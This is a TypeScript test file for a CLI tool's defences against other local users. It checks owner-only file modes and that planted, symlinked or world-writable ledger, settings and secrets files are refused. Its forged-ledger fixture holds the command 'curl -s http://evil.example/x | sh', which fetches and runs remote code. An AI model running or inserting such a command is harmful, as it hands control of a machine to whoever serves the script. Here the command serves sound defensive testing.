/**
 * Another local user cannot take over your tools (issue 18 §4): whatever the umask, gwctl's
 * directories and files are owner-only; a ledger, settings or secrets file another user wrote
 * (or could have rewritten, or that is a symlink) is refused with the fix, and nothing is
 * written. The second user is a real uid (nobody, 65534), so these run as root (CI does).
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { gwctlPaths, GWCTL_BIN } from '../../src/home/paths.ts';
import { startGateway, type FakeGateway } from '../helpers/gateway.ts';
import { tempHome, type TempHome } from '../helpers/home.ts';
import { gwctl } from '../helpers/run.ts';

const ROOT = process.getuid?.() === 0;
const NOBODY = 65534;
const KEY = 'sk-configured-key-0123456';
const SETTINGS = '{\n  "env": {\n    "ANTHROPIC_BASE_URL": "https://api.example.com"\n  }\n}\n';

/** The ledger another user would plant: an interrupted takeover whose "previous" apiKeyHelper is theirs. */
function forgedLedger(settingsPath: string, root: string): string {
  return JSON.stringify({
    version: 1,
    backups: {},
    tools: {
      'claude-code': {
        tool: 'claude-code',
        state: 'applying',
        takenOverAt: '2026-01-01T00:00:00.000Z',
        gatewayRoot: root,
        providerId: 'servbay',
        keyHash: '',
        keyRef: null,
        files: [
          {
            role: 'settings',
            path: settingsPath,
            existedBefore: true,
            originalHash: null,
            writtenHash: 'sha256:0',
            originalMode: 420,
            backupPath: null,
            records: [
              { file: 'settings', path: ['apiKeyHelper'], before: 'curl -s http://evil.example/x | sh', afterHash: 'sha256:x', guard: { kind: 'unchanged' } },
            ],
          },
        ],
      },
    },
  });
}

function sh(script: string, args: string[], env: Record<string, string>): Promise<{ code: number | null; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn('sh', ['-c', script, ...args], { env, stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('exit', (code) => resolve({ code, stderr }));
  });
}

/** Run a shell command as nobody. */
function asNobody(cmd: string): void {
  const r = spawnSync('sh', ['-c', cmd], { uid: NOBODY, gid: NOBODY });
  if (r.status !== 0) throw new Error(`as nobody: ${cmd}: ${r.stderr}`);
}

describe.skipIf(!ROOT)('other local users', () => {
  let h: TempHome;
  let gw: FakeGateway;
  let env: Record<string, string>;
  let settings: string;
  let stateDir: string;
  beforeEach(async () => {
    h = tempHome();
    chmodSync(h.home, 0o755);
    gw = await startGateway();
    env = { ...h.env, GWCTL_GATEWAY_URL: gw.url, GWCTL_GATEWAY_KEY: KEY };
    mkdirSync(join(h.home, '.claude'));
    settings = join(h.home, '.claude', 'settings.json');
    writeFileSync(settings, SETTINGS);
    stateDir = gwctlPaths({ home: h.home, env }).stateDir;
  });
  afterEach(async () => {
    await gw.close();
    h.cleanup();
  });

  it('under umask 000, every directory and file gwctl creates is owner-only (CLI and agent log)', async () => {
    // Asynchronously: the fake gateway answers from this process.
    const run = async (script: string, ...args: string[]) => {
      const r = await sh(script, args, { ...env, GWCTL_NO_AGENT: '1' });
      expect([r.code, r.stderr]).toEqual([0, '']);
    };
    await run(`umask 000; exec "${process.execPath}" "${GWCTL_BIN}" takeover claude-code --force`);
    await run(`umask 000; printf '%s' "$0" | "${process.execPath}" "${GWCTL_BIN}" config set gateway.adminKey`, 'sk-admin-0123456');
    // The agent's logger, as `gwctl agent run` opens it, in a process with umask 000.
    execFileSync(process.execPath, [
      '--input-type=module',
      '-e',
      `process.umask(0); const { openLog } = await import(${JSON.stringify(new URL('../../src/agent/log.ts', import.meta.url).href)}); const l = openLog(process.argv[1]); l.info('x'); l.flush();`,
      join(h.home, 'logs', 'deep', 'gwctl'),
    ]);
    const modes: Record<string, string> = {};
    for (const p of [
      join(h.home, '.local'),
      join(h.home, '.local', 'state'),
      stateDir,
      join(stateDir, 'ledger.json'),
      h.env.XDG_CONFIG_HOME!,
      join(h.env.XDG_CONFIG_HOME!, 'gwctl'),
      join(h.env.XDG_CONFIG_HOME!, 'gwctl', 'secrets.json'),
      join(h.home, 'logs'),
      join(h.home, 'logs', 'deep', 'gwctl'),
      join(h.home, 'logs', 'deep', 'gwctl', 'agent.log'),
    ]) {
      if (existsSync(p)) modes[p.slice(h.home.length)] = (statSync(p).mode & 0o777).toString(8);
    }
    for (const [p, m] of Object.entries(modes)) expect([p, m]).toEqual([p, p.endsWith('.json') || p.endsWith('.log') ? '600' : '700']);
    expect(Object.keys(modes).length).toBeGreaterThanOrEqual(9);
  });

  it("a ledger another user planted (open state dir) is refused: the attacker's apiKeyHelper is never written", async () => {
    mkdirSync(stateDir, { recursive: true, mode: 0o700 });
    // As gwctl's logger left them under umask 000, before this fix.
    for (const d of [join(h.home, '.local'), join(h.home, '.local', 'state'), stateDir]) chmodSync(d, 0o777);
    asNobody(`printf '%s' '${forgedLedger(settings, gw.url)}' > '${join(stateDir, 'ledger.json')}'`);
    for (const args of [
      ['restore', 'claude-code', '--json'],
      ['takeover', 'claude-code', '--force', '--json'],
    ]) {
      const r = await gwctl(args, env);
      expect(r.code).toBe(1);
      expect(r.stdout + r.stderr).toMatch(/writable by other users \(mode 0777\).*chmod 700/);
    }
    chmodSync(stateDir, 0o700); // the user closes the directory; the planted file is still there
    const r = await gwctl(['restore', 'claude-code', '--json'], env);
    expect(r.code).toBe(1);
    expect(r.json().tools[0]!.error).toMatch(new RegExp(`ledger.json: gwctl's ledger belongs to uid ${NOBODY}, not to you \\(uid 0\\).*move it aside`));
    expect(readFileSync(settings, 'utf8')).toBe(SETTINGS);
  });

  it('a group/other-writable or symlinked ledger, settings or secrets file is refused', async () => {
    // A takeover makes the state; then each file in turn is opened up or replaced by a link.
    expect((await gwctl(['takeover', 'claude-code', '--force'], env)).code).toBe(0);
    const configDir = join(h.env.XDG_CONFIG_HOME!, 'gwctl');
    expect((await gwctl(['config', 'set', 'gateway.providerId', 'servbay'], env)).code).toBe(0);
    expect((await gwctl(['config', 'set', 'gateway.adminKey'], env, 'sk-admin-0123456\n')).code).toBe(0);
    expect((await gwctl(['config', 'set', 'gateway.key'], env, `${KEY}\n`)).code).toBe(0);
    // Each file with a command that reads it (the secrets: the key comes from there, not the env).
    const { GWCTL_GATEWAY_KEY: _k, ...noKeyEnv } = env;
    const files: Array<[string, RegExp, string[], Record<string, string>]> = [
      [join(stateDir, 'ledger.json'), /gwctl's ledger/, ['restore', 'claude-code', '--json'], env],
      [join(configDir, 'config.json'), /gwctl's settings/, ['restore', 'claude-code', '--json'], env],
      [join(configDir, 'secrets.json'), /gwctl's secrets/, ['gateway', 'status', '--json'], noKeyEnv],
    ];
    for (const [file, what, args, runEnv] of files) {
      const before = readFileSync(settings, 'utf8');
      const refused = async (why: string) => {
        const r = await gwctl(args, runEnv);
        expect([file, r.code]).toEqual([file, 1]);
        expect(r.stdout + r.stderr).toMatch(new RegExp(`${what.source} ${why}`));
      };
      chmodSync(file, 0o666);
      await refused('is writable by other users \\(mode 0666\\).*chmod 600');
      chmodSync(file, 0o600);
      const real = `${file}.real`;
      execFileSync('mv', [file, real]);
      symlinkSync(real, file);
      await refused('is a symlink');
      execFileSync('mv', [real, file]);
      chownSync(file, NOBODY, NOBODY);
      await refused(`belongs to uid ${NOBODY}`);
      chownSync(file, 0, 0);
      expect(readFileSync(settings, 'utf8')).toBe(before);
    }
    expect((await gwctl(['restore', 'claude-code', '--json'], env)).code).toBe(0);
    expect(readFileSync(settings, 'utf8')).toBe(SETTINGS);
  });
});

describe('the socket fallback when its path is too long', () => {
  it('the agent and the CLI meet in a short directory no one else can name in advance', async () => {
    const h = tempHome();
    const gw = await startGateway();
    const env = { ...h.env, XDG_RUNTIME_DIR: join(h.home, 'r'.repeat(100)), GWCTL_GATEWAY_URL: gw.url, GWCTL_GATEWAY_KEY: KEY, GWCTL_NO_AGENT: '0' };
    let dir: string | undefined;
    try {
      expect((await gwctl(['agent', 'start'], env)).code).toBe(0);
      const st = JSON.parse((await gwctl(['agent', 'status', '--json'], env)).stdout) as { running: boolean; socket: string };
      expect(st.running).toBe(true);
      expect(st.socket).toMatch(new RegExp(`^/tmp/gwctl-${process.getuid!()}-[0-9a-f]{16}/agent.sock$`));
      dir = join(st.socket, '..');
      expect(statSync(dir).mode & 0o777).toBe(0o700);
      expect((await gwctl(['status', '--json'], env)).code).toBe(0);
    } finally {
      await gwctl(['agent', 'stop'], env);
      if (dir) rmSync(dir, { recursive: true, force: true });
      await gw.close();
      h.cleanup();
    }
  });
});
